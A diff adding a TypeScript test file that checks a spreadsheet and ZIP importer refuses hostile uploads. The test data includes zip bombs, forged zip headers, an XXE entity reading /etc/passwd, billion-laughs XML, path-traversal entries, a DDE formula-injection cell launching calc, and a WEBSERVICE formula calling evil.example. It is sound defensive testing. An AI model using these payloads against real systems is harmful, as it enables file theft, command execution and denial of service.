@@ -1,0 +1,217 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { deflateRawSync } from 'node:zlib';
+import { afterAll, beforeAll, expect, test } from '@rstest/core';
+import { strToU8, zipSync } from 'fflate';
+import { DIST } from '../testing/programs.ts';
+import { openArchive } from './archive-files.ts';
+import { FORMULA } from './import-types.ts';
+import { readSheet } from './reading/read-sheet.ts';
+import { readTable } from './reading/read-table.ts';
+import { type SheetProblem, SheetRefused } from './reading/sheet-problems.ts';
+import {
+  compound,
+  HEADED,
+  patched,
+  rowOf,
+  sheetXml,
+  text,
+  workbook,
+  workbookParts,
+} from './testing/workbooks.ts';
+
+let folder: string;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'hostile-'));
+});
+afterAll(() => rm(folder, { recursive: true }));
+
+let made = 0;
+async function fileOf(content: Uint8Array | string): Promise<string> {
+  made += 1;
+  const path = join(folder, String(made));
+  await writeFile(path, content);
+  return path;
+}
+const read = async (content: Uint8Array | string) => {
+  const {
+    rows: [headings, ...rows],
+    is1904,
+  } = await readTable(Buffer.from(content as Uint8Array));
+  return { headings: headings?.cells, rows, is1904 };
+};
+const readApart = async (content: Uint8Array | string) =>
+  readSheet(join(DIST, 'sheet-reader.js'), await fileOf(content));
+
+const ZEROS = new Uint8Array(130 * 1024 * 1024);
+const MANY_ROWS = `${HEADED}${'<row/>'.repeat(5000)}${rowOf('a', 'b').repeat(5001)}`;
+const PART = 'xl/worksheets/sheet1.xml';
+const withPart = (xml: string) => workbook('', { [PART]: strToU8(xml) });
+
+test.each<[string, SheetProblem, () => Uint8Array | string]>([
+  ['zero bytes', 'empty', () => ''],
+  ['white space alone', 'empty', () => ' \n \n'],
+  ['headings alone', 'no-rows', () => workbook(HEADED)],
+  ['a million empty rows', 'no-rows', () => workbook(`${HEADED}${'<row/>'.repeat(1_000_000)}`)],
+  [
+    'numbers where headings should be',
+    'no-headings',
+    () => workbook('<row><c><v>1</v></c></row><row><c><v>2</v></c></row>'),
+  ],
+  ['5001 rows', 'too-many-rows', () => workbook(MANY_ROWS)],
+  ['5001 rows of CSV', 'too-many-rows', () => `Naziv;Adresa\n${'a;b\n'.repeat(5001)}`],
+  [
+    '16,384 columns',
+    'too-many-columns',
+    () => workbook(`<row>${text('a').repeat(16_384)}</row>${rowOf('a')}`),
+  ],
+  [
+    'two cells in far corners',
+    'too-large',
+    () =>
+      workbook(
+        '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>',
+      ),
+  ],
+  ['a bomb in a part', 'too-large', () => zipSync(workbookParts(HEADED, { 'xl/media/a.bin': ZEROS }))],
+  ['a bomb that says it is small', 'damaged', () => liar()],
+  ['overlapping parts', 'too-large', () => overlapping()],
+  [
+    'an external entity',
+    'entities',
+    () => withPart(sheetXml(rowOf('&x;'), '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
+  ],
+  [
+    'a billion laughs',
+    'entities',
+    () => withPart(sheetXml(rowOf('&b;'), '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>')),
+  ],
+  ['an encrypted workbook', 'locked', () => compound('EncryptedPackage')],
+  ['an old workbook', 'old-excel', () => compound('Workbook')],
+  ['a truncated workbook', 'damaged', () => workbook(HEADED + rowOf('a', 'b')).subarray(0, 600)],
+  ['a wrong checksum', 'damaged', () => spoiled()],
+  ['a ZIP of something else', 'not-a-sheet', () => zipSync({ 'word/document.xml': strToU8('<a/>') })],
+  [
+    'a part that is a path out of the folder',
+    'damaged',
+    () => zipSync(workbookParts(HEADED, { '../a.xml': strToU8('<a/>') })),
+  ],
+  ['a sheet that is no XML', 'damaged', () => withPart('<worksheet><sheetData><row')],
+  ['a PDF', 'not-a-sheet', () => '%PDF-1.7\n1;2\n3;4'],
+  ['a picture', 'not-a-sheet', () => Buffer.from('89504e470d0a1a0a0000', 'hex')],
+  ['a web page called a table', 'web-page', () => '<html><table><tr><td>Naziv</td></tr></table></html>'],
+  ['CSV with a zero byte', 'not-text', () => 'Naziv;Adresa\na\0b;c\n'],
+  ['what is text in no encoding', 'not-text', () => Buffer.from('Naziv;Adresa\n\x81\x83\x90;b\n', 'latin1')],
+  ['a lone quote before a long file', 'long-cell', () => `Naziv;Adresa\n"a;b\n${'c;d\n'.repeat(20_000)}`],
+  ['one line of ten megabytes', 'long-cell', () => `Naziv\n${'a'.repeat(10_000_000)}`],
+])('refuses %s', async (_name, problem, make) => {
+  const refused = await read(make()).catch((error: unknown) => error);
+  expect(refused).toBeInstanceOf(SheetRefused);
+  expect((refused as SheetRefused).problem).toBe(problem);
+});
+
+/** A part whose directory says that it unpacks to a hundredth of what it does. */
+function liar(): Uint8Array {
+  const content = Buffer.alloc(1_234_567, 'a');
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(content.length);
+  const small = Buffer.alloc(4);
+  small.writeUInt32LE(12_345);
+  return patched(zipSync(workbookParts(HEADED, { 'xl/a.xml': content })), size, small);
+}
+
+/** Entries of a directory that all point to the same bytes, more of them than there are. */
+function overlapping(): Uint8Array {
+  const parts = workbookParts(HEADED + rowOf('a'), { 'xl/a.bin': deflateRawSync(Buffer.alloc(100)) });
+  const file = Buffer.from(zipSync(parts, { level: 0 }));
+  // The compressed size of every entry in the directory.
+  for (let at = file.indexOf('PK\x01\x02'); at >= 0; at = file.indexOf('PK\x01\x02', at + 4)) {
+    file.writeUInt32LE(file.length, at + 20);
+    file.writeUInt32LE(file.length, at + 24);
+  }
+  return file;
+}
+
+function spoiled(): Uint8Array {
+  const file = Buffer.from(zipSync(workbookParts(HEADED + rowOf('dobar', 'b')), { level: 0 }));
+  file.write('losij', file.indexOf('dobar'));
+  return file;
+}
+
+test('reads apart from the server: what takes all memory ends that process alone, and is told', async () => {
+  expect((await readApart('Naziv;Adresa\na;b\n')).rows).toEqual([{ row: 2, cells: ['a', 'b'] }]);
+  const greedy = `Naziv\n"${'a\n'.repeat(8_000_000)}"`;
+  const refused = await readApart(greedy).catch((error: unknown) => error);
+  expect((refused as SheetRefused).problem).toBe('too-large');
+});
+
+const CYRILLIC_FREE = 'Naziv;Adresa\r\nČesma "đak";Šćepan\r\n';
+const utf16 = (text: string, mark: string) =>
+  Buffer.concat([Buffer.from(mark, 'hex'), Buffer.from(text, 'utf16le')]);
+const windows1250 = (text: string) =>
+  Buffer.from(
+    text.replace('Č', '\xc8').replace('đ', '\xf0').replace('Š', '\x8a').replace('ć', '\xe6'),
+    'latin1',
+  );
+
+test.each<[string, Uint8Array | string]>([
+  ['UTF-8', CYRILLIC_FREE],
+  ['UTF-8 with its mark', `\uFEFF${CYRILLIC_FREE}`],
+  ['Windows-1250', windows1250(CYRILLIC_FREE)],
+  ['UTF-16', utf16(CYRILLIC_FREE, 'fffe')],
+  ['UTF-16, the other way round', utf16(CYRILLIC_FREE, 'fffe').swap16()],
+  ['commas', CYRILLIC_FREE.replaceAll(';', ',')],
+  ['tabs', CYRILLIC_FREE.replaceAll(';', '\t')],
+  ['bars', CYRILLIC_FREE.replaceAll(';', '|')],
+  ['a separator that Excel names', `sep=;\r\n${CYRILLIC_FREE}`],
+])('reads CSV in %s', async (_name, content) => {
+  const { headings, rows } = await read(content);
+  expect(headings).toEqual(['Naziv', 'Adresa']);
+  expect(rows).toMatchObject([{ cells: ['Česma "đak"', 'Šćepan'] }]);
+});
+
+test('reads the first of two sheets, rows by their numbers, and texts that look like formulas as texts', async () => {
+  const more = { 'xl/worksheets/sheet2.xml': strToU8(sheetXml(rowOf('Drugi'))) };
+  const cells = `${HEADED}<row r="3">${text("=cmd|' /C calc'!A0")}${text("'=1+1")}</row>`;
+  expect((await read(workbook(cells, more))).rows).toEqual([
+    { row: 3, cells: ["=cmd|' /C calc'!A0", '=1+1'] },
+  ]);
+});
+
+test('a formula counts by the value that was kept with it, and is never calculated', async () => {
+  const cells = '<row><c><f>1+1</f><v>2</v></c><c><f>WEBSERVICE("http://evil.example")</f></c></row>';
+  expect((await read(workbook(HEADED + cells))).rows).toMatchObject([{ cells: [2, FORMULA] }]);
+});
+
+test('days are counted from 1904 where the workbook says so', async () => {
+  const parts = workbookParts(HEADED + rowOf('a', 'b'));
+  const main = new TextDecoder().decode(parts['xl/workbook.xml'] as Uint8Array);
+  const more = { 'xl/workbook.xml': strToU8(main.replace('<sheets>', '<workbookPr date1904="1"/><sheets>')) };
+  expect((await read(zipSync({ ...parts, ...more }))).is1904).toBe(true);
+});
+
+const small = strToU8('a');
+const entry = (name: string, attributes?: number): Uint8Array =>
+  zipSync({ [name]: [small, attributes === undefined ? {} : { os: 3, attrs: attributes }] });
+
+test.each<[string, string, () => Uint8Array]>([
+  ['a path out of the folder', 'nedozvoljene putanje', () => entry('../../etc/passwd')],
+  ['an absolute path', 'nedozvoljene putanje', () => entry('/etc/passwd')],
+  ['a symbolic link', 'prečice', () => entry('slika.png', 0o120777 << 16)],
+  ['a bomb', 'prevelik', () => zipSync({ 'a.pdf': ZEROS })],
+  ['overlapping entries', 'prevelik', () => overlapping()],
+  ['no ZIP', 'oštećena', () => strToU8('nije zip'.repeat(10))],
+  ['a truncated ZIP', 'oštećena', () => entry('a.pdf').subarray(0, 60)],
+  ['a password', 'lozinkom', () => encrypted()],
+])('refuses a ZIP of files with %s', async (_name, words, make) => {
+  const content = make();
+  const refused = await openArchive(await fileOf(content), content.length).catch((error: unknown) => error);
+  expect(String(refused)).toContain(words);
+});
+
+function encrypted(): Uint8Array {
+  const file = Buffer.from(entry('a.pdf'));
+  file.writeUInt16LE(1, file.indexOf('PK\x01\x02') + 8);
+  return file;
+}
